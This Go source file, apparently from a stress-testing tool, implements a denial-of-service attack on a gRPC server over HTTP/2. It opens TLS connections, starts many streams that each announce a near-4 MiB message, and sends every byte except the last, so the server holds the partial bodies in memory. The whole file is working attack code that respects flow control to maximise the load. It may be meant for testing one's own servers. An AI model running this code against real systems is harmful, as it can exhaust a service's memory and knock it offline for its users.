package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks that begin messages without ending them, so that the server keeps the received part.

// unendedCalls is the number of calls on one connection, unendedSize the announced size of their messages in bytes: the
// largest that gRPC allows. All bytes but the last are sent, if the server permits that.
const unendedCalls, unendedSize = 80, 4<<20 - 8

// unendedStreams and unendedRequests use requests of delta ADS and requests for certificates.
func unendedStreams(ctx context.Context, w *attacker) string { return w.unended(ctx, deltaMethod) }
func unendedRequests(ctx context.Context, w *attacker) string {
	return w.unended(ctx, certificateMethod)
}

func (w *attacker) unended(ctx context.Context, method string) string {
	return w.http2(ctx, func(ctx context.Context, u *http2Conn) error {
		var streams []uint32
		for i := range max(2, unendedCalls*w.Connections/MaxConnections) {
			streams = append(streams, uint32(2*i+1))
			if err := u.begin(streams[i], method, w.Token, unendedSize); err != nil {
				return err
			}
			w.count(func(c *Count) { c.Requests++ })
		}
		return u.speak(ctx, streams)
	})
}

// http2 opens a connection with the certificate, and calls speak while it reads the server's frames. The context of
// speak ends with the connection. It returns the result of the try.
func (w *attacker) http2(ctx context.Context, speak func(context.Context, *http2Conn) error) string {
	return w.raw(ctx, func(raw net.Conn) error {
		conn := tls.Client(raw, config(w.Certificate))
		if err := conn.HandshakeContext(ctx); err != nil {
			return err
		}
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return err
		}
		u := &http2Conn{Framer: http2.NewFramer(conn, conn), window: map[uint32]int{0: 65535}, changed: make(chan struct{}, 1)}
		if err := u.WriteSettings(); err != nil {
			return err
		}
		speaking, cancel := context.WithCancel(ctx)
		defer cancel()
		var reading sync.WaitGroup
		reading.Go(func() { u.read(w); _ = raw.Close(); cancel() }) // ends speak, even if it is blocked
		defer reading.Wait()
		defer raw.Close()
		return speak(speaking, u)
	})
}

// http2Conn is an HTTP/2 connection with flow control.
type http2Conn struct {
	*http2.Framer
	write   sync.Mutex
	changed chan struct{} // capacity 1: a window has grown

	mu     sync.Mutex
	window map[uint32]int // bytes that may be sent, by stream; key 0: the connection
}

// begin begins a call and announces a message of size bytes.
func (u *http2Conn) begin(stream uint32, method, token string, size uint32) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method},
		{":authority", "x"}, {"content-type", "application/grpc"},
		{"authorization", "Bearer " + token}} {
		if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return err
		}
	}
	u.mu.Lock()
	u.window[stream] = 65535 - 5
	u.window[0] -= 5
	u.mu.Unlock()
	u.write.Lock()
	defer u.write.Unlock()
	if err := u.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
		return err
	}
	return u.WriteData(stream, false, binary.BigEndian.AppendUint32([]byte{0}, size))
}

// speak sends all bytes of the messages but the last of each, as the windows permit, until the connection or ctx ends.
func (u *http2Conn) speak(ctx context.Context, streams []uint32) error {
	left := map[uint32]int{}
	for _, s := range streams {
		left[s] = unendedSize - 1
	}
	part := make([]byte, 16<<10)
	for {
		sent := false
		for _, s := range streams {
			u.mu.Lock()
			n := max(0, min(len(part), left[s], u.window[s], u.window[0]))
			u.window[s] -= n
			u.window[0] -= n
			u.mu.Unlock()
			if n == 0 {
				continue
			}
			left[s] -= n
			u.write.Lock()
			err := u.WriteData(s, false, part[:n])
			u.write.Unlock()
			if err != nil {
				return err
			}
			sent = true
		}
		if sent {
			continue
		}
		select {
		case <-u.changed:
		case <-ctx.Done():
			return nil
		}
	}
}

// read updates the windows from the server's frames, until the connection ends.
func (u *http2Conn) read(w *attacker) {
	for {
		f, err := u.ReadFrame()
		if err != nil {
			return
		}
		stream := f.Header().StreamID
		switch f := f.(type) {
		case *http2.WindowUpdateFrame:
			u.mu.Lock()
			u.window[stream] += int(f.Increment)
			u.mu.Unlock()
			select {
			case u.changed <- struct{}{}:
			default:
			}
		case *http2.RSTStreamFrame, *http2.HeadersFrame: // the stream has ended
			u.mu.Lock()
			delete(u.window, stream)
			u.mu.Unlock()
		case *http2.SettingsFrame:
			if !f.IsAck() {
				u.write.Lock()
				err = u.WriteSettingsAck()
				u.write.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				u.write.Lock()
				err = u.WritePing(true, f.Data)
				u.write.Unlock()
			}
		}
		if err != nil {
			return
		}
		if stream != 0 {
			w.count(func(c *Count) { c.Answers++ })
		}
	}
}
